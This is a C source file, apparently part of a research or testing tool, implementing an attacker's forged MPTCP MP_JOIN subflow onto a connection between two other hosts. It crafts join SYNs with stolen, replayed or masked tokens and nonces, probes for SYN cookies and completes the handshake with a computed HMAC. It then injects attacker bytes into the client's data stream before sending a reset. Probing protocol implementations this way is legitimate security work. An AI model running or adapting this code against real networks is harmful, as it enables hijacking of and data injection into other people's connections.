// SPDX-License-Identifier: GPL-2.0-only
/*
 * A join of the attacker's own to a connection of the hosts, packet by packet: what
 * the attacks on joins are made of
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>

#include "attacker.h"

#define MSS 1400

const char *const answers[] = { "silent", "refused", "answered" };

uint32_t random32(void)
{
	uint32_t value;

	if (getrandom(&value, sizeof(value), 0) != sizeof(value))
		abort();
	return value;
}

/* What the recorded join's token was masked with, if it was one of @connection */
static uint32_t learned_token_mask(const struct connection *connection)
{
	return recorded.token ^ key_token(connection->keys[SERVER]);
}

static uint32_t choose_nonce(void)
{
	if (arg_is("nonce", "recorded", "fresh"))
		return recorded.nonces[CLIENT];
	if (arg_is("nonce", "kept", "fresh"))
		return kept.nonces[CLIENT];
	return arg_number("nonce", "0") ? arg_number("nonce", "0") : random32();
}

/*
 * token=real	 the target's, in plain
 * token=learned the target's, with the mask of the recorded join, which was one
 *		 of connection learn=N
 * token=masked	 with the mask of an external key of the attacker's, key=HEX
 * token=recorded what was on the wire
 * token=kept	 what was on the wire in an older join
 * token=random
 *
 * nonce=recorded and nonce=kept are of these joins, nonce=N is that number
 */
void start_attempt(struct attempt *attempt, const struct connection *target,
		   const struct connection *teacher, unsigned int nr)
{
	const char *token = arg("token", "real");

	memset(attempt, 0, sizeof(*attempt));
	attempt->path = (int)arg_number("path", "1") - 1;
	attempt->with = arg_is("with", "client", "server") ? CLIENT : SERVER;
	attempt->from.addr = arg_addr("from", "10.0.1.66");
	attempt->from.port =
		htons((uint16_t)(arg_number("port", "0") ?
					 arg_number("port", "0") :
					 20000 + random32() % 20000 + nr));
	attempt->to = target->ends[attempt->with];
	if (arg("to", NULL))
		attempt->to.addr = arg_addr("to", NULL);
	if (arg("to_port", NULL))
		attempt->to.port = htons((uint16_t)arg_number("to_port", "0"));
	attempt->seq = random32();
	attempt->nonces[CLIENT] = choose_nonce();
	attempt->token = key_token(target->keys[SERVER]);
	if (!strcmp(token, "recorded"))
		attempt->token = recorded.token;
	else if (!strcmp(token, "kept"))
		attempt->token = kept.token;
	else if (!strcmp(token, "masked"))
		attempt->token ^= own_token_mask(attempt);
	else if (!strcmp(token, "learned"))
		attempt->token ^= learned_token_mask(teacher);
	else if (!strcmp(token, "random"))
		attempt->token = random32();
}

void send_attempt(const struct attempt *attempt, struct plan *plan)
{
	const struct link *link = &links[attempt->path][attempt->with];
	struct frame frame;

	plan->from_mac = link->mac;
	plan->to_mac = link->peer_mac;
	plan->from = attempt->from;
	plan->to = attempt->to;
	plan->seq = attempt->seq;
	plan->ack = attempt->peer_seq;
	make_segment(&frame, plan);
	send_hidden(link, &frame);
}

/* The next segment that comes to the attacker on this subflow */
bool next_segment(const struct attempt *attempt, int64_t until,
		  struct frame *frame, struct segment *segment)
{
	while (pump(until, false, frame)) {
		if (parse_segment(frame, segment) &&
		    same_endpoint(&segment->from, &attempt->to) &&
		    same_endpoint(&segment->to, &attempt->from))
			return true;
	}
	return false;
}

/* Behind the options that are there */
static void put_join_syn(struct plan *plan, const struct attempt *attempt)
{
	uint8_t *at = plan->options + plan->options_len;

	*at++ = MPTCP_KIND;
	*at++ = JOIN_SYN_LEN;
	*at++ = MP_JOIN << 4;
	*at++ = (uint8_t)arg_number("id", "66");
	put32(put32(at, attempt->token), attempt->nonces[CLIENT]);
	plan->options_len += JOIN_SYN_LEN;
}

void send_syn(const struct attempt *attempt)
{
	static const uint8_t data[] = { 'A', 'A', 'A', 'A' };
	struct plan plan = { .flags = TH_SYN, .options_len = TCPOLEN_MAXSEG };

	plan.options[0] = TCPOPT_MAXSEG;
	plan.options[1] = TCPOLEN_MAXSEG;
	put16(plan.options + 2, MSS);
	put_join_syn(&plan, attempt);
	/* As with Fast Open, which needs no cookie here */
	plan.payload = data;
	plan.payload_len = arg_is("data", "syn", "") ? sizeof(data) : 0;
	send_attempt(attempt, &plan);
}

/* No option at all: the sequence number of the answer, a cookie perhaps */
bool ask_for_cookie(const struct attempt *attempt, uint32_t *cookie)
{
	int64_t until = now_ms() + patience_ms;
	struct plan plan = { .flags = TH_SYN };
	struct segment segment;
	struct frame frame;

	send_attempt(attempt, &plan);
	while (next_segment(attempt, until, &frame, &segment)) {
		if (!segment.tcp->syn)
			continue;
		*cookie = segment.seq;
		return true;
	}
	return false;
}

static enum answer take_synack(struct attempt *attempt)
{
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;
	const uint8_t *join;

	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		join = find_mptcp(&segment, MP_JOIN);
		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
			continue;
		attempt->seq++;
		attempt->peer_seq = segment.seq + 1;
		attempt->synack = get64(join + 4);
		attempt->nonces[SERVER] = get32(join + 12);
		return ANSWERED;
	}
	return SILENT;
}

/* Sends the SYN, and says what came of it */
bool syn_answered(struct attempt *attempt)
{
	enum answer answer;

	send_syn(attempt);
	answer = take_synack(attempt);
	printf(" syn=%s", answers[answer]);
	return answer == ANSWERED;
}

/* The same with what is in somebody else's SYN, @join; or "recorded" was one, if NULL */
bool copy_answered(struct attempt *attempt, const struct connection *target,
		   const uint8_t *join)
{
	start_attempt(attempt, target, target, 0);
	attempt->token = join ? get32(join + 4) : recorded.token;
	attempt->nonces[CLIENT] = join ? get32(join + 8) :
					 recorded.nonces[CLIENT];
	return syn_answered(attempt);
}

uint64_t synack_hmac(const struct connection *connection,
		     const struct attempt *attempt)
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];

	join_hmac(connection->keys[SERVER], connection->keys[CLIENT],
		  attempt->nonces[SERVER], attempt->nonces[CLIENT], hmac);
	return get64(hmac);
}

static enum answer send_ack(const struct attempt *attempt,
			    const uint8_t hmac[ACK_HMAC_LEN])
{
	struct plan plan = { .flags = TH_ACK, .options_len = JOIN_ACK_LEN };
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;

	plan.options[0] = MPTCP_KIND;
	plan.options[1] = JOIN_ACK_LEN;
	plan.options[2] = MP_JOIN << 4;
	memcpy(plan.options + 4, hmac, ACK_HMAC_LEN);
	if (arg_is("beside", "syn", "nothing"))
		put_join_syn(&plan, attempt);
	send_attempt(attempt, &plan);
	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		/* Not the SYN/ACK again: the fourth packet, which ends the join */
		if (!segment.tcp->syn)
			return ANSWERED;
	}
	return SILENT;
}

static void send_reset(const struct attempt *attempt)
{
	struct plan plan = { .flags = TH_RST | TH_ACK };

	send_attempt(attempt, &plan);
}

/* Whether MPTCP has all data up to this sequence number */
static bool acknowledges(const struct segment *segment, uint64_t dsn)
{
	const uint8_t *dss = find_mptcp(segment, MP_DSS);

	if (!dss || !(dss[3] & 1))
		return false;
	return dss[3] & 2 ? get64(dss + 4) == dsn :
			    get32(dss + 4) == (uint32_t)dsn;
}

/* Bytes into the stream of the client, behind those @offset that it sent itself */
enum answer send_data(struct attempt *attempt,
		      const struct connection *connection, unsigned int len,
		      unsigned int offset)
{
	static uint8_t bytes[1024];
	uint64_t dsn = key_first_dsn(connection->keys[CLIENT]) + offset;
	struct plan plan = { .flags = TH_ACK | TH_PUSH, .payload = bytes };
	int64_t until = now_ms() + patience_ms;
	struct segment segment;
	struct frame frame;
	plan.payload_len = len < sizeof(bytes) ? len : sizeof(bytes);
	memset(bytes, 'A', sizeof(bytes));
	put_mapping(plan.options, key_first_dsn(connection->keys[SERVER]), dsn,
		    (uint16_t)plan.payload_len);
	plan.options_len = MAPPING_LEN;
	send_attempt(attempt, &plan);
	attempt->seq += plan.payload_len;
	while (next_segment(attempt, until, &frame, &segment)) {
		if (segment.tcp->rst)
			return REFUSED;
		if (acknowledges(&segment, dsn + plan.payload_len))
			return ANSWERED;
	}
	return SILENT;
}

/* From the SYN/ACK on; says how far it came. beside=syn: the option of the SYN is in the ACK, too */
void end_join(struct attempt *attempt, const struct connection *target,
	      const uint8_t hmac[ACK_HMAC_LEN])
{
	unsigned int bytes = arg_number("bytes", "0");
	enum answer answer = send_ack(attempt, hmac);

	printf(" ack=%s", answers[answer]);
	if (answer == ANSWERED && bytes)
		printf(" data=%s",
		       answers[send_data(attempt, target, bytes,
					 arg_number("offset", "1"))]);
	/* Or the server might want to send its answer this way */
	send_reset(attempt);
}
